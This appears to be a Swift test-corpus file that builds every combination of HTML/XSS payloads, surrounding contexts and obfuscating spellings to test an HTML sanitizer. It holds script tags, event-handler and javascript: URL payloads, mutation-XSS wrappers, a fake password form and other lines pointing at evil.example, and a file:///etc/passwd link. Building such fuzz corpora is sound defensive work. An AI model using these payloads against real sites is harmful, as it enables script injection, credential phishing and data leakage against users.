// HTML that wants to act, made of what acts, how it is written and what stands around it.

/// Every combination once, so that what a cleaner overlooks in one place only is met.
enum AttackPayloads {
    /// What would run, send, load or cover something.
    private static let acts: [String] = [
        "<script>alert(1)</script>", "<script src=//evil.example></script>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
        "<math><maction actiontype=\"statusline#x\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>", "<embed src=\"//evil.example/x.swf\">",
        "<applet code=x></applet>",
        "<form action=\"//evil.example\"><input name=password><button>Sign in</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>", "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>", "<textarea autofocus onfocus=alert(1)>x</textarea>",
        "<keygen autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>", "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1)>", "<frameset onload=alert(1)><frame src=x>",
        "<link rel=stylesheet href=\"//evil.example/x.css\">",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=\"//evil.example/\">", "<style>*{background:url(//evil.example)}</style>",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>", "<a href=\"\u{A0}javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"//evil.example\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=https://ok.example onmouseover=alert(1)>x</a>", "<a href=https://ok.example ping=//evil.example>x</a>",
        "<a href='https://ok.example' download srcset=x>x</a>", "<img src=\"cid:a@b\" srcset=\"//evil.example 2x\">",
        "<img src=\"//evil.example/p.gif\">", "<img src=\"cid:a@b\" longdesc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\">",
        "<input type=image src=x onerror=alert(1)>",
        "<table background=\"javascript:alert(1)\"><td background=\"//evil.example\">x</table>",
        "<div style=\"background:url(//evil.example)\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"w\\69dth:1px;background:u\\72l(x)\">x</div>", "<div style=\"-moz-binding:url(x)\">x</div>",
        "<div style=\"behavior:url(x)\">x</div>", "<div style=\"position:fixed;top:0;left:0;width:100%\">x</div>",
        "<div style=\"color:red/**/;background:/*x*/url(x)\">x</div>", "<div style=\"@import 'x'\">x</div>",
        "<div style=\"color:rgb(1,2,3);content:attr(x)\">x</div>", "<div style='color:red\"}*{x'>x</div>",
        "<p id=cookie name=cookie>x</p>", "<a name=\"getElementById\">x</a>", "<p class=\"modal\" data-action=x>x</p>",
        "<template><img src=x onerror=alert(1)></template>", "<noscript><img src=x onerror=alert(1)></noscript>",
        "<isindex action=\"javascript:alert(1)\">", "<xml id=x><x onload=alert(1)></xml>", "<?xml-stylesheet href=x?>",
        "<!ENTITY x \"<script>\">", "<dialog open>x</dialog>", "<slot onslotchange=alert(1)>", "<portal src=x>",
        "<command onclick=alert(1)>", "<bgsound src=\"javascript:alert(1)\">", "<layer src=x></layer>",
        "<image src=x onerror=alert(1)>", "<o:p onclick=alert(1)>x</o:p>", "<x-custom onclick=alert(1)>x</x-custom>",
    ]

    /// What stands around it; `%` is its place.
    private static let places: [String] = [
        "%", "<p>before</p>%<p>after</p>", "<table><tr><td>%</td></tr></table>", "<table>%<tr><td>x</td></tr></table>",
        "<!--><p>%-->", "<!-- --!>%-->", "<![CDATA[%]]>", "<title>%</title>", "<textarea>%</textarea>",
        "<noscript><p title=\"</noscript>%\">", "<svg><style>%</style></svg>", "<svg><desc>%</desc></svg>",
        "<math><mtext>%</mtext></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;%\">",
        "<svg></p><style><a id=\"</style>%\">", "<form><math><mtext></form><form><mglyph><style></math>%",
        "<xmp>%</xmp>", "<plaintext>%", "<select><option>%</select>", "<a href=\"https://ok.example/?x=%\">y</a>",
        "<p title='%'>x</p>", "<p title=\"%\">x</p>", "<p title=%>x</p>", "<font face='a%b'>x</font>", "</div></div>%",
        "</body></html>%", "<div\u{0}>%", "<p a=b\"c>%", "<b <i>%", "<div style='font-family:\"%\"'>x</div>",
        "&lt;p&gt;%", "<img alt=\"%\" src=https://x.example/a.png>", "<img alt='%' src='cid:1@x'>",
        "<ul><li>%<li>x</ul>",
        "<blockquote type=cite>%</blockquote>", "<pre>\n%</pre>", "<frameset>%</frameset>", "<head>%</head><body>x",
        "<style>x{}</style>%<style>", "<a><a>%</a></a>",
    ]

    /// How the whole is written.
    private static let spellings: [@Sendable (String) -> String] = [
        { $0 }, { $0.uppercased() },
        { $0.replacing("<", with: "<\u{0}") }, { $0.replacing(" on", with: "/on") },
        { $0.replacing("\"", with: "`") }, { String($0.dropLast()) },
        { $0.replacing(">", with: " x=\"<\">") }, { $0.replacing("script", with: "scr<script>ipt") },
        { $0.replacing("=", with: "\u{C}=\u{B}") }, { $0.replacing("<", with: "<<") },
    ]

    static let all: [String] = acts.flatMap { act in
        places.flatMap { place in spellings.map { $0(place.replacing("%", with: act)) } }
    }
}
